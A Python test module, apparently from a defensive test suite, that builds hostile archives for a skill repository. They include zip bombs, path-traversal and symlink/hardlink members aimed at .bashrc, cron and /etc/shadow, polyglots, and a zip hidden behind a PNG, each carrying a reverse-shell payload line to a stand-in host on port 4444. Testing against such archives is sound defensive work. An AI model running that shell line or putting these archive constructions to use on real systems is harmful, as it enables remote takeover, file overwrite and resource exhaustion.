"""H2: archives as files of a skill. Nothing here ever opens one; what is in them has not been seen, so none passes."""

from __future__ import annotations

import gzip
import io
import struct
import tarfile
import zipfile
import zlib
from collections.abc import Callable
from functools import partial

from tests.hostile.corpus import Attack, case
from tests.hostile.stage import Stage

EVIL = b"bash -i >& /dev/tcp/203.0.113.7/4444 0>&1\n"


def zipped(*members: tuple[str, bytes], squeeze: bool = True) -> bytes:
    """A zip of these members, whatever their names."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED if squeeze else zipfile.ZIP_STORED) as archive:
        for name, content in members:
            archive.writestr(zipfile.ZipInfo(name), content, zipfile.ZIP_DEFLATED if squeeze else zipfile.ZIP_STORED)
    return buffer.getvalue()


def tarred(*members: tarfile.TarInfo, form: int = tarfile.PAX_FORMAT) -> bytes:
    """A tar of members without content."""
    buffer = io.BytesIO()
    with tarfile.open(fileobj=buffer, mode="w", format=form) as archive:
        for member in members:
            archive.addfile(member, io.BytesIO(bytes(member.size)))
    return buffer.getvalue()


def member(name: str, kind: bytes = tarfile.REGTYPE, *, to: str = "", **more: object) -> tarfile.TarInfo:
    """A member of a tar."""
    made = tarfile.TarInfo(name)
    made.type, made.linkname = kind, to
    for attribute, value in more.items():
        setattr(made, attribute, value)
    return made


def bomb(*, mib: int) -> bytes:
    """A zip of this many MiB of nothing."""
    return zipped(("zeros", bytes(mib * 2**20)))


def nested(*, levels: int) -> bytes:
    """A zip of zips of zips: each level holds the one below eight times."""
    inner = bomb(mib=1)
    for _ in range(levels):
        inner = zipped(*((f"{number}.zip", inner) for number in range(8)))
    return inner


def overlapping(*, entries: int) -> bytes:
    """A directory of many entries that all stand for the same bytes."""
    body = zlib.compressobj(9, zlib.DEFLATED, -15)
    content = bytes(2**20)
    squeezed = body.compress(content) + body.flush()
    numbers = (zlib.crc32(content), len(squeezed), len(content))
    local = b"PK\x03\x04" + struct.pack("<5H3I2H", 20, 0, 8, 0, 33, *numbers, 1, 0) + b"a" + squeezed
    directory = b"".join(
        b"PK\x01\x02" + struct.pack("<6H3I5H2I", 20, 20, 0, 8, 0, 33, *numbers, 6, 0, 0, 0, 0, 0, 0) + b"%06d" % number
        for number in range(entries)
    )
    end = b"PK\x05\x06" + struct.pack("<4H2IH", 0, 0, entries & 0xFFFF, entries & 0xFFFF, len(directory), len(local), 0)
    return local + directory + end


def mismatched() -> bytes:
    """A zip whose directory gives the member a harmless name, and whose member calls itself otherwise."""
    honest = zipped(("readme.txt", EVIL))
    return honest.replace(b"readme.txt", b"install.sh", 1)


def encrypted() -> bytes:
    """A zip whose member says that it has a password."""
    honest = bytearray(zipped(("run.sh", EVIL)))
    honest[6] |= 1
    honest[honest.index(b"PK\x01\x02") + 8] |= 1
    return bytes(honest)


def unicode_extra() -> bytes:
    """A zip whose member has a second name in an extra field."""
    info = zipfile.ZipInfo("readme.txt")
    other = b"../../.bashrc"
    info.extra = struct.pack("<HHBI", 0x7075, 5 + len(other), 1, zlib.crc32(b"readme.txt")) + other
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr(info, EVIL)
    return buffer.getvalue()


def pax_lies() -> bytes:
    """A tar whose extended header says another size than the header after it."""
    lying = member("a", pax_headers={"size": str(2**40), "path": "../../escape"})
    lying.size = 3
    return tarred(lying)


def sparse() -> bytes:
    """A tar of one sparse file of a tebibyte, in a block."""
    made = bytearray(tarred(member("sparse"), form=tarfile.GNU_FORMAT))
    made[156:157] = b"S"
    made[386:410] = b"00000000000\x0000000000000\x00"
    made[483:495] = b"\x80" + (2**40).to_bytes(11, "big")
    made[148:156] = b" " * 8
    made[148:156] = b"%06o\0 " % sum(made[:512])
    return bytes(made)


def polyglot() -> bytes:
    """A tar that ends in a zip: what is in it depends on who looks."""
    return tarred(member("a.txt"), form=tarfile.USTAR_FORMAT) + zipped(("run.sh", EVIL))


def unmarked_tar() -> bytes:
    """A tar of the oldest kind, which has no magic bytes."""
    made = bytearray(tarred(member("../../run.sh", size=10), form=tarfile.USTAR_FORMAT))
    made[257:265] = bytes(8)
    return bytes(made)


def renamed_zip(*names: str) -> Callable[[], bytes]:
    """A maker of zips with members of these names."""
    return lambda: zipped(*((name, EVIL) for name in names))


ARCHIVES: dict[str, tuple[str, Callable[[], bytes]]] = {
    "bomb-flat": ("data.zip", partial(bomb, mib=16)),
    "bomb-gzip": ("data.gz", lambda: gzip.compress(bytes(16 * 2**20))),
    "bomb-nested": ("data.zip", partial(nested, levels=4)),
    "bomb-overlapping": ("data.zip", partial(overlapping, entries=20_000)),
    "bomb-disguised": ("notes.md", partial(bomb, mib=4)),
    "million-entries-claimed": ("data.zip", partial(overlapping, entries=65_535)),
    "million-entries": ("data.zip", partial(overlapping, entries=1_000_000)),
    "ratio-past-64-mib": ("data.zip", partial(bomb, mib=256)),
    "header-mismatch": ("data.zip", mismatched),
    "duplicate-names": ("data.zip", renamed_zip("a.txt", "b.txt", "a.TXT")),
    "trailing-data": ("data.zip", lambda: zipped(("a.txt", b"a")) + EVIL * 100),
    "leading-data": ("data.zip", lambda: b"#!/bin/sh\nexit 0\n" + zipped(("a.txt", EVIL))),
    "zip-tar-polyglot": ("data.tar", polyglot),
    "encrypted": ("data.zip", encrypted),
    "unicode-path-extra": ("data.zip", unicode_extra),
    "device-member": (
        "data.tar",
        lambda: tarred(member("sda", tarfile.BLKTYPE, devmajor=8), member("tty", tarfile.CHRTYPE)),
    ),
    "fifo-member": ("data.tar", lambda: tarred(member("pipe", tarfile.FIFOTYPE))),
    "hardlink-member": ("data.tar", lambda: tarred(member("key", tarfile.LNKTYPE, to="/etc/shadow"))),
    "symlink-member": ("data.tar", lambda: tarred(member("d", tarfile.SYMTYPE, to="/"), member("d/etc/cron.d/x"))),
    "sparse-tar": ("data.tar", sparse),
    "pax-size-lies": ("data.tar", pax_lies),
    "climbing-path": ("data.zip", renamed_zip("../../../.bashrc")),
    "absolute-path": ("data.zip", renamed_zip("/etc/cron.d/run")),
    "drive-path": ("data.zip", renamed_zip("C:\\Windows\\run.bat", "..\\..\\run.bat")),
    "case-collision": ("data.zip", renamed_zip("run.sh", "RUN.SH")),
    "nfc-collision": ("data.zip", renamed_zip("caf\u00e9.sh", "cafe\u0301.sh")),
    "long-names": ("data.zip", renamed_zip("n" * 60_000)),
    "zero-width-names": ("data.zip", renamed_zip("run\u200b.sh", "\u202ehs.nur")),
    "unmarked-tar": ("data.tar", unmarked_tar),
    "truncated": ("data.zip", lambda: bomb(mib=1)[:200]),
    "self-extracting": ("setup.sh", lambda: b"#!/bin/sh\ntail -n +3 $0 | tar xz\n" + gzip.compress(EVIL)),
}


async def holding(stage: Stage, *, name: str, make: Callable[[], bytes]) -> Attack:
    stage.repository({"SKILL.md": stage.skill_md(), name: make()})
    return Attack(url=stage.url)


for _id, (_name, _make) in ARCHIVES.items():
    case(f"H2-{_id}")(partial(holding, name=_name, make=_make))


@case("H2-zip-behind-image")
async def zip_behind_image(stage: Stage) -> Attack:
    image = b"\x89PNG\r\n\x1a\n" + b"\0\0\0\rIHDR" + bytes(17) + b"\0\0\0\0IEND\xaeB`\x82"
    stage.repository({"SKILL.md": stage.skill_md(), "logo.png": image + zipped(("run.sh", EVIL))})
    return Attack(url=stage.url)


@case("H2-skill-md-is-archive")
async def skill_md_is_archive(stage: Stage) -> Attack:
    stage.repository({"SKILL.md": zipped(("SKILL.md", stage.skill_md()))})
    return Attack(url=stage.url)
